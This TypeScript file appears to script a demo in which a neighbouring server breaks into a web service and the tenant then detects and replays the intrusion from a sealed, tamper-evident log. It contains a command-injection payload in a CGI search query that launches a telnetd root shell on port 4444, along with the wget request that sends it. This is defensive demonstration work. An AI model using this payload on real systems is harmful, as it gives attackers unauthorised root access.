/**
 * The main job's third act: the neighbour breaks into the service. Its tenant is told while it happens, and opens and
 * replays what the kernel has sealed; the landlord, who has every file, can neither open it nor cut it unseen.
 */
import { cp, readdir, truncate, stat } from 'node:fs/promises'
import { join } from 'node:path'
import { SetupError } from '../errors.ts'
import { loadOrCreateLogKey } from '../identity/index.ts'
import { follow } from './service-process.ts'
import { words } from './steps.ts'

const SHELL_PORT = 4444
/** What the service takes for a word to search for; it answers when the port is open. */
const INJECTION = `.+/dev/null;telnetd+-p+${SHELL_PORT}+-l+/bin/sh;until+netstat+-ltn|grep+-q+:${SHELL_PORT};do+:;done+%23`
/** What the shell says of itself. */
const ROOT = 'uid=0(root)'

/** Two servers that are linked: what the second act leaves to the third. */
export interface Pair {
  /** Run and server of the web service, and where it answers. */
  service: { run: string; server: string; ipv4: string; port: number }
  /** Run and server of its neighbour. */
  visitor: { run: string; server: string }
}

export interface BreakInInit {
  call: (title: string, args: string[]) => Promise<string>
  callInVain: (title: string, args: string[], answer: string) => Promise<string>
  /** Show a step whose command goes on beside the others. */
  announce: (title: string, args: string[]) => void
  /** Show what a command says. */
  say: (line: string) => void
  consumer: string[]
  owner: string[]
  /** State directories of the consumer, of the landlord's host and of nobody yet. */
  directories: { consumer: string; host: string; landlord: string; cut: string }
}

/** How many steps it shows. */
export const BREAK_IN_STEPS = 8

/** @throws ERR_MACHINE when a step ends otherwise than it must */
export async function breakIn(init: BreakInInit, pair: Pair): Promise<void> {
  const { call, consumer, owner } = init
  const { service, visitor } = pair
  await call('The owner is careless: another link, to a port at which nobody answers', [
    ...words`switch link ${visitor.server} ${service.server} ${`tcp/${SHELL_PORT}`}`,
    ...owner
  ])
  const exec = ['exec', '--no-input', ...consumer, visitor.run, '--']
  {
    const watching = ['alerts', '-f', ...consumer, service.run]
    init.announce('The tenant watches her service', watching)
    await using alerts = follow(watching, init.say)
    const url = `http://${service.ipv4}:${service.port}/cgi-bin/search?${INJECTION}`
    await call('The neighbour asks it for more than a search', [...exec, 'wget', '-q', '-O', '-', url])
    await alerts.said(/^\S+ alert .*request/)
    const session = await call('… and has a shell of root’s', [
      ...exec,
      ...words`sh intruder ${service.ipv4} ${String(SHELL_PORT)}`
    ])
    check(session, ROOT)
    await alerts.said(/^\S+ alert .*id of root/)
  }
  await readAndTry(init, service)
}

/** What the tenant reads, and the landlord does not. */
async function readAndTry(init: BreakInInit, { run, server }: Pair['service']): Promise<void> {
  const { call, callInVain, consumer, directories } = init
  const replay = [...words`replay --speed 10`, ...consumer, run]
  const seen = await call('The tenant sees what was done there, from the sealed log alone', replay)
  check(seen, ROOT)
  const verified = await call('… and that nothing is missing from the log', ['verify', ...consumer, run])
  const [, head = ''] = /^head (\S+)$/m.exec(verified) ?? []

  const log = join(directories.host, 'servers', server, 'log')
  await loadOrCreateLogKey(directories.landlord)
  const landlord = ['--state-dir', directories.landlord]
  await callInVain(
    'The landlord has every file, and opens it in vain',
    ['open', ...landlord, log],
    NOT_OPENED
  )
  await cutCopy(log, directories.cut)
  const cut = ['verify', directories.cut, '--state-dir', directories.consumer, '--anchor', head]
  check(await callInVain('… and cuts its end off in vain: that is told', cut, NOT_WHOLE), 'NOT whole')
}

/** Commands fail for other reasons, too. */
function check(printed: string, words: string): void {
  if (!printed.includes(words))
    throw new SetupError('ERR_MACHINE', `the third act: no ${words} in: ${printed}`)
}

const NOT_OPENED = '(nothing, as it must be)'
const NOT_WHOLE = '(not whole, as it must be)'

/** The log without the last part of what is in its last file. */
async function cutCopy(log: string, to: string): Promise<void> {
  await cp(log, to, { recursive: true })
  const last = (await readdir(to)).toSorted().at(-1) ?? ''
  const path = join(to, last)
  await truncate(path, Math.floor((await stat(path)).size / 2))
}
